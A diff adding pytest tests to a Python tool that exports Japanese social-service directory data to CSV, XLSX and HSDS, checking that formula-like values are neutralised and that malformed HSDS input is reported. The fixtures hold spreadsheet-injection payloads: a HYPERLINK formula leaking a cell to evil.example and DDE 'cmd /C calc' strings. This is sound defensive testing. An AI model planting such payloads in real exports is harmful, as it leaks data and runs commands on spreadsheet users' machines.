@@ -6,6 +6,8 @@ a subprocess whose address space is capped (``RLIMIT_AS``), so a reader that
 expands a small file fails the test with a MemoryError instead of passing slowly.
 """
 
+import csv
+import io
 import os
 import resource
 import subprocess
@@ -336,3 +338,220 @@ def test_a_bidi_control_from_turtle_is_refused(runner, tmp_path):
     result = runner.invoke(cli, ["validate", str(path)])
     assert result.exit_code == 1, result.output
     assert "field 'telephone': 表示の向きを変える制御文字 (\\u202e)" in result.output
+
+
+# --- formulas from data never reach a spreadsheet -----------------------------------------------
+
+FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"相談はこちら")'
+FORMULA_PHONE = "+81 88-000-0000"
+FORMULA_DOCUMENT = "@SUM(1+1)*cmd|' /C calc'!A0"
+FORMULA_QUOTE = "-2+3+cmd|' /C calc'!A0"
+FORMULA_YAML = f"""
+sources:
+  evil:
+    document: "{FORMULA_DOCUMENT}"
+    quote: "{FORMULA_QUOTE}"
+records:
+  - id: formula-npo
+    type: NPO
+    name: '{FORMULA_NAME}'
+    serves: [ino]
+    domains: [employment]
+    age: 15-64
+    telephone: "{FORMULA_PHONE}"
+    sources: [evil]
+  - id: ino-needs-survey-2030
+    type: DutyStatus
+    municipality: ino
+    duty: needs-survey
+    fulfilled: true
+    as_of: 2030-01-01
+    sources: [evil]
+"""
+FORMULA_TEXTS = (FORMULA_NAME, FORMULA_PHONE, FORMULA_DOCUMENT)
+
+
+@pytest.fixture(scope="module")
+def formula_home(tmp_path_factory):
+    """A build whose organisation, phone and source title start like spreadsheet formulas."""
+    from tsunagu.graph.compiler import build
+
+    folder = tmp_path_factory.mktemp("formula")
+    data = folder / "formula.yaml"
+    data.write_text(FORMULA_YAML, encoding="utf-8")
+    home = folder / "cache"
+    build([data], directory=home)
+    return home
+
+
+def _csv_cells(text):
+    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+
+
+def _assert_no_formula_in_csv(text):
+    import re
+
+    cells = _csv_cells(text)
+    # what a spreadsheet would run: = or @ first, or a sign before anything but a plain number
+    live = [c for c in cells if c[:1] in ("=", "@") or c[:1] in ("+", "-") and not re.fullmatch(r"[+-][0-9.]*", c)]
+    assert not live, live
+    return cells
+
+
+def _assert_no_formula_in_xlsx(path):
+    book = load_workbook(path)
+    texts = []
+    for sheet in book.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
+                if isinstance(cell.value, str):
+                    texts.append(cell.value)
+    return texts
+
+
+@pytest.mark.parametrize("args, expected", [
+    (["refer", "いの町", "--age", "20", "--need", "employment"], (FORMULA_NAME,)),  # the phone shows after ☎
+    (["gaps", "--municipality", "いの町"], (FORMULA_DOCUMENT,)),
+    (["show", "formula-npo"], (FORMULA_NAME, FORMULA_PHONE, FORMULA_DOCUMENT)),
+])
+def test_cli_csv_and_xlsx_carry_no_formula_from_data(runner, formula_home, tmp_path, monkeypatch, args, expected):
+    from tsunagu.cli import cli
+
+    monkeypatch.setenv("TSUNAGU_HOME", str(formula_home))
+    target = tmp_path / "out.csv"
+    result = runner.invoke(cli, [*args, "-o", str(target)])
+    assert result.exit_code == 0, result.output
+    cells = _assert_no_formula_in_csv(target.read_bytes().decode("utf-8-sig"))
+    for text in expected:
+        assert "'" + text in cells or any(("'" + text) in c for c in cells), (text, cells)
+
+    workbook = tmp_path / "out.xlsx"
+    result = runner.invoke(cli, [*args, "-o", str(workbook)])
+    assert result.exit_code == 0, result.output
+    texts = _assert_no_formula_in_xlsx(workbook)
+    for text in expected:
+        assert any(text in t for t in texts), (text, texts)  # the value itself, as text, no quote added
+
+
+def test_the_template_writes_formula_like_values_as_text_and_reads_them_back(runner, formula_home, tmp_path,
+                                                                               monkeypatch):
+    from tsunagu.cli import cli
+    from tsunagu.loaders.workbook import read_workbook
+
+    monkeypatch.setenv("TSUNAGU_HOME", str(formula_home))
+    target = tmp_path / "ino.xlsx"
+    result = runner.invoke(cli, ["template", "workbook", "--municipality", "いの町", "-o", str(target)])
+    assert result.exit_code == 0, result.output
+    texts = _assert_no_formula_in_xlsx(target)
+    assert FORMULA_NAME in texts and FORMULA_DOCUMENT in texts
+    result = runner.invoke(cli, ["validate", str(target)])
+    assert result.exit_code == 0, result.output
+    record = next(r for r in read_workbook(target).records if r.id == "formula-npo")
+    assert record.fields["name"] == FORMULA_NAME and record.fields["telephone"] == FORMULA_PHONE
+
+
+def test_the_hsds_export_neutralises_formulas_and_reads_them_back(runner, formula_home, tmp_path, monkeypatch):
+    from tsunagu.cli import cli
+    from tsunagu.loaders.hsds import read_hsds
+
+    monkeypatch.setenv("TSUNAGU_HOME", str(formula_home))
+    folder = tmp_path / "hsds"
+    result = runner.invoke(cli, ["export", "--to", "hsds", "-o", str(folder)])
+    assert result.exit_code == 0, result.output
+    for table in folder.glob("*.csv"):
+        _assert_no_formula_in_csv(table.read_text(encoding="utf-8"))
+    files, _ = read_hsds(folder)
+    record = next(r for f in files for r in f.records if r.id == "formula-npo")
+    assert record.fields["name"] == FORMULA_NAME and record.fields["telephone"] == FORMULA_PHONE
+
+
+def test_a_formula_typed_in_a_workbook_is_still_refused(template, tmp_path):
+    """Text starting with "=" is a value; a real formula cell is not."""
+    def change(book):
+        book["構成団体"]["C3"] = "=A1&B1"
+
+    _refused(_edited(template, tmp_path, change), "シート「構成団体」 3行目 C列「名称」: 数式ではなく値を入力してください")
+
+
+# --- HSDS: malformed values, whole ids, JSON, many services ------------------------------------
+
+ORG = "11111111-1111-4111-8111-111111111111"
+
+
+def _hsds_folder(tmp_path, services, extra=None, organizations=None):
+    folder = tmp_path / "hsds"
+    folder.mkdir(exist_ok=True)
+    (folder / "organizations.csv").write_text(organizations or f"id,name\n{ORG},つなぐ会\n", encoding="utf-8")
+    (folder / "services.csv").write_text(services, encoding="utf-8")
+    for name, text in (extra or {}).items():
+        (folder / name).write_text(text, encoding="utf-8")
+    return folder
+
+
+@pytest.mark.parametrize("age", ["inf", "1e400", "nan", "-inf", "99999999999999999999999"])
+def test_an_hsds_age_that_is_not_a_number_is_named_by_file_row_and_field(runner, tmp_path, age):
+    from tsunagu.cli import cli
+
+    folder = _hsds_folder(tmp_path, "id,organization_id,name,status,minimum_age,maximum_age\n"
+                                    f"22222222-2222-4222-8222-222222222222,{ORG},居場所,active,{age},39\n")
+    result = runner.invoke(cli, ["validate", str(folder)])
+    assert result.exit_code == 1, result.output
+    assert "Traceback" not in result.output and not isinstance(result.exception, OverflowError)
+    assert f"{folder / 'services.csv'}:2: record 'hsds-service-22222222222242228222222222222222': field 'age'" \
+        in result.output
+
+
+def test_an_hsds_row_longer_than_its_header_is_named(runner, tmp_path):
+    from tsunagu.cli import cli
+
+    folder = _hsds_folder(tmp_path, "id,organization_id,name,status,fees\n"
+                                    f"22222222-2222-4222-8222-222222222222,{ORG},居場所,active,無料,余分,もう一つ\n")
+    result = runner.invoke(cli, ["validate", str(folder)])
+    assert result.exit_code == 1, result.output
+    assert not isinstance(result.exception, TypeError) and "Traceback" not in result.output
+    assert f"{folder / 'services.csv'}:2: 見出し（5 列）より多い 2 列があります" in result.output
+
+
+def test_two_uuidv7_records_of_one_millisecond_are_two_records(tmp_path):
+    from tsunagu.graph import compile_graph
+
+    first, second = "0190f3a2-7b1c-7000-8000-000000000001", "0190f3a2-7b1c-7abc-9def-0123456789ab"
+    folder = _hsds_folder(tmp_path, "id,organization_id,name,status\n"
+                                    f"{first},{ORG},居場所A,active\n{second},{ORG},居場所B,active\n")
+    graph = compile_graph([folder], embedded=False).graph
+    names = {graph.nodes[n].get("name") for n in graph if n.startswith("hsds-service-")}
+    assert names == {"居場所A", "居場所B"}
+
+
+def test_an_hsds_json_file_is_refused_not_passed_as_ok(runner, formula_home, tmp_path, monkeypatch):
+    from tsunagu.cli import cli
+
+    monkeypatch.setenv("TSUNAGU_HOME", str(formula_home))
+    folder = tmp_path / "export"
+    assert runner.invoke(cli, ["export", "--to", "hsds", "-o", str(folder)]).exit_code == 0
+    result = runner.invoke(cli, ["validate", str(folder / "json" / "organizations.json")])
+    assert result.exit_code == 1, result.output
+    assert "JSON-LD の @context のない JSON（HSDS の JSON など）は読めません" in result.output
+
+
+def test_many_hsds_services_with_areas_read_in_linear_time_with_summarised_notices(tmp_path):
+    import uuid
+
+    from tsunagu.loaders.hsds import read_hsds
+
+    count = 20_000
+    services, areas = ["id,organization_id,name,status,fees"], ["id,service_id,name"]
+    for i in range(count):
+        service = str(uuid.UUID(int=i + 1))
+        services.append(f"{service},{ORG},居場所{i},active,無料")
+        areas.append(f"{uuid.UUID(int=10**9 + i)},{service},どこか{i}")
+    folder = _hsds_folder(tmp_path, "\n".join(services) + "\n", {"service_areas.csv": "\n".join(areas) + "\n"})
+    started = time.monotonic()
+    files, notices = read_hsds(folder)
+    seconds = time.monotonic() - started
+    assert sum(len(f.records) for f in files) == count + 1
+    assert seconds < 8, f"{seconds:.1f} s: each service scanned every area (quadratic)"
+    assert len(notices) < 20, len(notices)
+    assert f"{folder / 'service_areas.csv'}: name: … ほか {count - 3:,} 件" in "\n".join(notices)
+    assert any(line.startswith(f"{folder / 'service_areas.csv'}:2: name: area 'どこか0'") for line in notices)
